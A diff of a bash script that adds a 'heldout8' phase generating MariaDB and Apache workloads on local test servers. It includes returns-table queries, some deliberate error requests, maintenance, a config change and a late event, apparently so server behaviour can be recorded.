+# load, plus one, up to 5); through .180 the returns desk: a return recorded, its order
+# locked (SELECT ... FOR UPDATE) and the refund set in a transaction, the reasons ranked by
+# a window function; one more thing in turn: a login that fails (a user that does not
+# exist), an ENUM value that does not exist, a column that does not exist, a value too long
+# for its column (strict mode), a transaction rolled back, a join of returns and orders. The
+# maintenance, by the operator inside the cgroup as mysql: a schema-only dump
+# (`mariadb-dump --no-data --routines shop` into backup/), `mariadb-admin variables`, SHOW
+# TABLE STATUS and SHOW GRANTS. The change, by the DBA (root on the socket): a column added
+# with a table copy (ALGORITHM=COPY), a read-only reporting account, the general query log
+# switched on (log/general.log).
+# The late event: the returns table rotated (a new one created LIKE it, the open returns
+# copied, RENAME TABLE of both at once), then a round.
+mariadb_heldout8_deploy() {
+  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.6 80 180
+  mariadb_launch
+  local pid=$LAUNCHED
+  mariadb_root -e "CREATE USER app@'127.0.6.%'; GRANT ALL ON *.* TO app@'127.0.6.%'; USE shop;
+    CREATE TABLE returns (id INT AUTO_INCREMENT PRIMARY KEY, order_id INT NOT NULL,
+      reason ENUM('damaged', 'late', 'wrong size', 'changed mind') NOT NULL, refunded DECIMAL(10,2) DEFAULT 0,
+      code VARCHAR(16), created DATETIME DEFAULT NOW(), KEY (order_id));
+    INSERT INTO returns (order_id, reason, refunded, code)
+      SELECT 1 + seq * 3 % 20000, ELT(1 + seq % 4, 'damaged', 'late', 'wrong size', 'changed mind'), seq % 60,
+        CONCAT('R', seq) FROM seq_1_to_5000;"
+  stop_pid "$pid" TERM
+}
+mariadb_heldout8_mix() {
+  local r=$HELDOUT8_ROUND i n pids=() p80=$((MARIADB_RELAY_PORT + 80)) p180=$((MARIADB_RELAY_PORT + 180))
+  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p180" --skip-ssl -B)
+  local o=$((1 + r * 31 % 20000))
+  n=$((HELDOUT8_CONC / 6 + 1))
+  [ "$n" -le 5 ] || n=5
+  for i in $(seq 1 "$n"); do mariadb_order_session -P "$p80" & pids+=($!); done
+  mariadb_app -P "$p180" shop "INSERT INTO returns (order_id, reason, code)
+      VALUES ($o, ELT(1 + $r % 4, 'damaged', 'late', 'wrong size', 'changed mind'), 'W$r');
+    START TRANSACTION; SELECT total FROM orders WHERE id = $o FOR UPDATE;
+    UPDATE returns SET refunded = 9.5 WHERE code = 'W$r'; COMMIT;
+    SELECT reason, COUNT(*) n, RANK() OVER (ORDER BY COUNT(*) DESC) FROM returns GROUP BY reason" &
+  pids+=($!)
+  mariadb_wait "${pids[@]}"
+  case $((r % 6)) in
+    0) "${cli[@]}" -u refunds -pnot-the-password shop -e "SELECT 1" ;;
+    1) "${cli[@]}" -u app shop -e "INSERT INTO returns (order_id, reason) VALUES ($o, 'lost')" ;;
+    2) "${cli[@]}" -u app shop -e "SELECT refund_total FROM returns LIMIT 1" ;;
+    3) "${cli[@]}" -u app shop -e "INSERT INTO returns (order_id, reason, code) VALUES ($o, 'late', REPEAT('x', 40))" ;;
+    4) "${cli[@]}" -u app shop -e "START TRANSACTION; UPDATE returns SET refunded = 0 WHERE id = $((1 + r)); ROLLBACK" ;;
+    5) "${cli[@]}" -u app shop -e "SELECT r.reason, SUM(o.total) FROM returns r JOIN orders o ON o.id = r.order_id GROUP BY r.reason ORDER BY 2 DESC" ;;
+  esac >/dev/null 2>&1 || true
+}
+mariadb_heldout8_maint() {
+  admin mariadb mysql mariadb-dump --no-defaults -S "$MARIADB_SOCK" --no-data --routines \
+    --result-file="$MARIADB_DIR/backup/shop-schema.sql" shop
+  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" variables
+  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -B -e "SHOW TABLE STATUS FROM shop; SHOW GRANTS FOR app@'127.0.6.%'"
+}
+mariadb_heldout8_change() {
+  mariadb_root -e "ALTER TABLE shop.returns ADD COLUMN channel VARCHAR(12) NOT NULL DEFAULT 'web', ALGORITHM=COPY;
+    CREATE USER report@'127.0.6.%'; GRANT SELECT ON shop.* TO report@'127.0.6.%';
+    SET GLOBAL general_log_file = '$MARIADB_DIR/log/general.log', GLOBAL general_log = ON"
+}
+mariadb_heldout8_late() {
+  mariadb_root -e "USE shop; CREATE TABLE returns_new LIKE returns;
+    INSERT INTO returns_new SELECT * FROM returns WHERE refunded = 0;
+    RENAME TABLE returns TO returns_2026, returns_new TO returns"
+  HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
+  mariadb_heldout8_mix
 }
 
 
@@ -4621,6 +5093,66 @@ apache_heldout7_late() {
   apache_cron --max-age 90 --report nightly
 }
 
+# Held out, eighth set (heldout8). No deploy. Clients from 127.0.6.1-250 for every seventh
+# product and every ninth image (another offset each round), about, the terms, the favicon,
+# the stylesheet and a search; a customer (users 01-60 in turn) from 127.0.0.81-100
+# (addresses apache never served) signs in, every third round uploads a 150 kB
+# `expenses-N.csv` and downloads it back, and stays signed in; one more request in turn: a
+# signed-in upload of `avatar-N.php` (415), the account page without a session (redirected
+# to the sign-in), product 0 (404), an empty POST to the contact form, a TRACE request, a
+# byte range of an image. The maintenance: the cron job with other arguments (`--max-age 20
+# --report weekly`). The change: conf/app.d/compress.conf (mod_filter and mod_deflate
+# compressing HTML, CSS and JavaScript; MaxConnectionsPerChild 200, so workers are replaced
+# as they serve), applied with a graceful restart from outside (USR1, as `apache2ctl
+# graceful`). The late event: twelve customers (users 13-24) sign in at once and stay signed
+# in, then the cron job purges every session (`--max-age 0 --report purge`).
+apache_heldout8_deploy() { :; }
+apache_heldout8_mix() {
+  local r=$HELDOUT8_ROUND i u=http://127.0.0.1:$APACHE_PORT a user
+  local paths=(/ /about.php /terms.html /favicon.ico /css/site.css "/search.php?q=product+$((r % 9))")
+  for i in $(seq $((1 + r % 7)) 7 100); do paths+=("/product.php?id=$i"); done
+  for i in $(seq $((1 + r % 9)) 9 50); do paths+=("/img/$i.png"); done
+  heldout8_get "$APACHE_PORT" "${paths[@]}"
+  local up=()
+  user=user$(printf %02d $((1 + r * 11 % 60)))
+  [ $((r % 3)) != 0 ] || { APACHE_SEQ=$((APACHE_SEQ + 1)); up=("expenses-$APACHE_SEQ.csv" 150000); }
+  apache_session $((81 + r % 20)) "$user" "${up[@]}"
+  a=$(heldout8_addr 5)
+  case $((r % 6)) in
+    0) apache_session $((81 + (r + 3) % 20)) "$user" "avatar-$r.php" 2000 ;;
+    1) curl -s --interface "$a" "$u/account.php" ;;
+    2) curl -s --interface "$a" "$u/product.php?id=0" ;;
+    3) curl -s --interface "$a" -X POST "$u/contact.php" ;;
+    4) curl -s --interface "$a" -X TRACE "$u/" ;;
+    5) curl -s --interface "$a" -r 0-511 "$u/img/$((1 + r % 50)).png" ;;
+  esac >/dev/null 2>&1 || true
+}
+apache_heldout8_maint() { apache_cron --max-age 20 --report weekly; }
+apache_heldout8_change() {
+  local m=/usr/lib/apache2/modules
+  cat >"$APACHE_DIR/conf/app.d/compress.conf" <<CONF
+LoadModule filter_module $m/mod_filter.so
+LoadModule deflate_module $m/mod_deflate.so
+AddOutputFilterByType DEFLATE text/html text/css application/javascript
+MaxConnectionsPerChild 200
+CONF
+  apache_graceful
+  until_ok apache_heldout8_deflated
+}
+# apache_heldout8_deflated: the home page comes compressed, as the change configured.
+apache_heldout8_deflated() {
+  curl -s -H 'Accept-Encoding: gzip' -o /dev/null -D - "http://127.0.0.1:$APACHE_PORT/" | grep -qi '^content-encoding: gzip'
+}
+apache_heldout8_late() {
+  local i pids=()
+  for i in $(seq 1 12); do
+    apache_session $((81 + i)) "user$(printf %02d $((i + 12)))" &
+    pids+=($!)
+  done
+  wait "${pids[@]}" || true
+  apache_cron --max-age 0 --report purge
+}
+
 
 # --- the recordings -----------------------------------------------------------------------
 
@@ -4832,6 +5364,26 @@ heldout7_alternate() {
     sleep "$3"
   done
 }
+# heldout8, its own counter and load (HELDOUT8_ROUND, HELDOUT8_CONC, HELDOUT8_PER) and an
+# idle period of HELDOUT8_IDLE_SECONDS right after the start; its clients come from
+# 127.0.6.1-250 (heldout8_addr N: the N-th of the round; heldout8_get PORT PATH...: the
+# paths, HELDOUT8_PER requests per connection, HELDOUT8_CONC at a time).
+HELDOUT8_IDLE_SECONDS=${HELDOUT8_IDLE_SECONDS:-16}
+HELDOUT8_ROUND=0 HELDOUT8_CONC=32 HELDOUT8_PER=1
+heldout8_addr() { echo "127.0.6.$((1 + ($1 * 37 + HELDOUT8_ROUND * 41) % 250))"; }
+heldout8_get() { spread_get "$1" 127.0.6 1 250 37 41 "$HELDOUT8_ROUND" "$HELDOUT8_PER" "$HELDOUT8_CONC" "${@:2}"; }
+# heldout8_sawtooth SERVER SECONDS PAUSE: rounds of SERVER's heldout8 mix for SECONDS, PAUSE s
+# apart, with 2, 6 and 12 connections at a time in turn (3 requests each).
+heldout8_sawtooth() {
+  local end=$((SECONDS + $2)) loads=(2 6 12)
+  HELDOUT8_PER=3
+  while [ "$SECONDS" -lt "$end" ]; do
+    HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
+    HELDOUT8_CONC=${loads[HELDOUT8_ROUND % 3]}
+    "$1_heldout8_mix"
+    sleep "$3"
+  done
+}
 # The server's scheduled job, if it has one: training covers what production runs on a
 # timer, or every run of the job in production would look new.
 maintenance_of() { if declare -F "$1_maintenance" >/dev/null; then echo "$1_maintenance"; fi; }
@@ -5015,6 +5567,28 @@ record_server() {
     "${s}_heldout7_late"
     heldout7_stretch "$s" 3 6 16 "$w3"
     heldout_end "$s" heldout7 "$HELDOUT7_ROUND"
+  fi
+
+  if want_phase heldout8; then
+    # Pauses between rounds (s): keep-alive, sawtooth, tail; and the burst's rounds (a batch
+    # round waits for the next run).
+    local v1=0.8 v2=1.1 v3=2 nb=8 b
+    [ "$s" != batch ] || { v1=3; v2=3; v3=4; nb=4; }
+    say "$s: heldout8 (idle after the start, a burst of short-lived clients, keep-alive rounds, maintenance, a change, a sawtooth, a late event, a tail)"
+    HELDOUT8_ROUND=0
+    heldout_begin "$s" heldout8
+    sleep "$HELDOUT8_IDLE_SECONDS"
+    HELDOUT8_CONC=32 HELDOUT8_PER=1
+    for ((b = 0; b < nb; b++)); do HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1)); "${s}_heldout8_mix"; done
+    HELDOUT8_CONC=4 HELDOUT8_PER=8
+    rounds HELDOUT8_ROUND 12 "${s}_heldout8_mix" "$v1"
+    "${s}_heldout8_maint"
+    "${s}_heldout8_change"
+    heldout8_sawtooth "$s" 14 "$v2"
+    "${s}_heldout8_late"
+    HELDOUT8_CONC=2 HELDOUT8_PER=4
+    rounds HELDOUT8_ROUND 8 "${s}_heldout8_mix" "$v3"
+    heldout_end "$s" heldout8 "$HELDOUT8_ROUND"
   fi
 }
 
